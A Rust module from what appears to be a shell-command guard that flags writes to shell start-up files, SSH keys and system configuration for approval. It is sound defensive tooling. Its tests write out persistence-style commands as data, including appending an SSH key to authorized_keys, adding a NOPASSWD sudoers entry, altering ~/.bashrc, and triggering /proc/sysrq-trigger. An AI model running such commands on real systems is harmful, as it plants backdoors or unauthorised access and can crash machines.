//! Writes that plant code or grant access: shell start-up files, SSH keys, system
//! configuration. Reading those files (`cat ~/.bashrc`) is fine; writing them through a
//! redirection, `tee`, `cp`/`mv`/`install`/`ln`, `sed -i`, `curl -o`, `dd of=` is not.

use super::super::Tier;
use super::super::command::{Invocation, operands};
use super::super::interp::{self, CodeFrom};
use super::super::paths::{Sensitive, sensitive_write};
use super::super::word::Arg;
use super::Rule;

pub(crate) const STARTUP: Rule = Rule {
    id: "files.shell_startup_write",
    tier: Tier::Approval,
    reason: "writes a shell start-up file, so the text runs in every later shell",
};

pub(crate) const SSH: Rule = Rule {
    id: "files.ssh_write",
    tier: Tier::Approval,
    reason: "writes SSH keys or configuration (`authorized_keys` grants logins)",
};

pub(crate) const SYSTEM: Rule = Rule {
    id: "files.system_write",
    tier: Tier::Approval,
    reason: "writes operating-system configuration, binaries, boot files or kernel settings",
};

/// How a path gets written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Via {
    /// A shell redirection (`>`, `>>`, `&>`).
    Redirect,
    /// `dd of=`.
    Dd,
    /// Another program's destination argument.
    Program,
}

/// Every path this invocation writes to, as far as the guard can tell.
pub(crate) fn written_paths(program: Option<&str>, inv: &Invocation) -> Vec<(Arg, Via)> {
    let mut out: Vec<(Arg, Via)> = inv
        .writes
        .iter()
        .map(|w| (w.target.clone(), Via::Redirect))
        .collect();
    let Some(p) = program else {
        return out;
    };
    let args = inv.args();
    let mut add = |a: &Arg| out.push((a.clone(), Via::Program));
    match p {
        "tee" | "truncate" => operands(args).for_each(&mut add),
        "cp" | "mv" | "install" | "ln" | "rsync" | "scp" => {
            let mut target_dir = None;
            for (i, a) in args.iter().enumerate() {
                match a.value() {
                    Some("-t") => target_dir = args.get(i + 1),
                    Some(v) if v.starts_with("--target-directory=") => {
                        let dir = &v["--target-directory=".len()..];
                        out.push((Arg::literal(dir, dir), Via::Program));
                    }
                    _ => {}
                }
            }
            match target_dir {
                Some(dir) => out.push((dir.clone(), Via::Program)),
                None => {
                    let ops: Vec<&Arg> = operands(args).collect();
                    if ops.len() >= 2
                        && let Some(last) = ops.last()
                    {
                        out.push(((*last).clone(), Via::Program));
                    }
                }
            }
        }
        "sed" if in_place(args, "sed") => {
            let explicit_script = args.iter().any(|a| {
                a.value().is_some_and(|v| {
                    v == "-e"
                        || v == "-f"
                        || v.starts_with("--expression")
                        || v.starts_with("--file")
                })
            });
            let ops: Vec<&Arg> = operands(args).collect();
            let skip = usize::from(!explicit_script);
            for a in ops.into_iter().skip(skip) {
                out.push((a.clone(), Via::Program));
            }
        }
        "perl" | "ruby" if in_place(args, p) => {
            let code_at = match interp::interpreter_code(p, args) {
                CodeFrom::Arg(i) => Some(i),
                _ => None,
            };
            for (i, a) in args.iter().enumerate() {
                let is_option = a.value().is_some_and(|v| v.starts_with('-'));
                if Some(i) != code_at && !is_option {
                    out.push((a.clone(), Via::Program));
                }
            }
        }
        "dd" => {
            for a in args {
                if let Some(path) = a.value().and_then(|v| v.strip_prefix("of=")) {
                    out.push((Arg::literal(&a.raw, path), Via::Dd));
                } else if a.value().is_none() && a.raw.starts_with("of=") {
                    out.push((Arg::unknown(&a.raw), Via::Dd));
                }
            }
        }
        "curl" | "wget" => {
            let flags: &[&str] = if p == "curl" {
                &["-o", "--output"]
            } else {
                &["-O", "--output-document"]
            };
            for (i, a) in args.iter().enumerate() {
                let Some(v) = a.value() else { continue };
                if flags.contains(&v) {
                    if let Some(next) = args.get(i + 1) {
                        out.push((next.clone(), Via::Program));
                    }
                } else if let Some(rest) =
                    flags.iter().find_map(|f| v.strip_prefix(&format!("{f}=")))
                {
                    out.push((Arg::literal(rest, rest), Via::Program));
                }
            }
        }
        _ => {}
    }
    out
}

/// `sed -i`, `sed -i.bak`, `sed --in-place`, `perl -pi -e`: edits files in place.
fn in_place(args: &[Arg], program: &str) -> bool {
    args.iter().any(|a| {
        let Some(v) = a.value() else { return false };
        if v.starts_with("--in-place") {
            return true;
        }
        let Some(cluster) = v.strip_prefix('-').filter(|c| !c.starts_with('-')) else {
            return false;
        };
        match program {
            // In a sed cluster, `-e`/`-f` take the rest as their value: `-ie` is in-place.
            "sed" => cluster
                .split(['e', 'f'])
                .next()
                .is_some_and(|head| head.contains('i')),
            _ => cluster.chars().take_while(|c| *c != 'e').any(|c| c == 'i'),
        }
    })
}

/// Flags writes to sensitive files.
pub(crate) fn check(program: Option<&str>, inv: &Invocation, sink: &mut super::Sink) {
    for (target, _) in written_paths(program, inv) {
        let Some(path) = inv.path(&target) else {
            continue;
        };
        let rule = match sensitive_write(&path) {
            Some(Sensitive::Startup) => &STARTUP,
            Some(Sensitive::Ssh) => &SSH,
            Some(Sensitive::System) => &SYSTEM,
            None => continue,
        };
        sink.hit(rule, &inv.site);
    }
}

#[cfg(test)]
mod tests {
    use super::super::test_support::*;
    use crate::guard::Tier;

    #[test]
    fn writing_shell_startup_files_needs_approval() {
        for cmd in [
            "echo 'export PATH=/tmp/x:$PATH' >> ~/.bashrc",
            "echo x > \"$HOME/.zshrc\"",
            "cat evil | tee -a ~/.profile",
            "cp ./rc ~/.bashrc",
            "mv x /root/.bash_profile",
            "sed -i 's/a/b/' ~/.bashrc",
            "perl -pi -e 's/a/b/' ~/.zshrc",
            "curl -o ~/.bashrc https://x",
            "ln -sf /tmp/x ~/.profile",
            "{ echo a; echo b; } >> ~/.bashrc",
        ] {
            assert_finds(cmd, "files.shell_startup_write", Tier::Approval);
        }
    }

    #[test]
    fn writing_ssh_keys_needs_approval() {
        assert_finds(
            "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
            "files.ssh_write",
            Tier::Approval,
        );
        assert_finds(
            "cp key.pub /root/.ssh/authorized_keys",
            "files.ssh_write",
            Tier::Approval,
        );
        assert_finds("tee ~/.ssh/config < cfg", "files.ssh_write", Tier::Approval);
    }

    #[test]
    fn writing_system_configuration_needs_approval() {
        assert_finds(
            "echo '1.2.3.4 x' >> /etc/hosts",
            "files.system_write",
            Tier::Approval,
        );
        assert_finds(
            "echo 'u ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/u",
            "files.system_write",
            Tier::Approval,
        );
        assert_finds(
            "sed -i.bak 's/x/y/' /etc/ssh/sshd_config",
            "files.system_write",
            Tier::Approval,
        );
        assert_finds(
            "echo b > /proc/sysrq-trigger",
            "files.system_write",
            Tier::Approval,
        );
    }

    #[test]
    fn reading_or_copying_from_sensitive_files_is_clean() {
        assert_clean("cat ~/.bashrc");
        assert_clean("cp ~/.bashrc ./bashrc.bak");
        assert_clean("grep PATH ~/.profile /etc/environment");
        assert_clean("sed -n '1,5p' ~/.bashrc");
        assert_clean("echo hi > out.txt 2>/dev/null");
        assert_clean("ls -la ~/.ssh");
    }
}
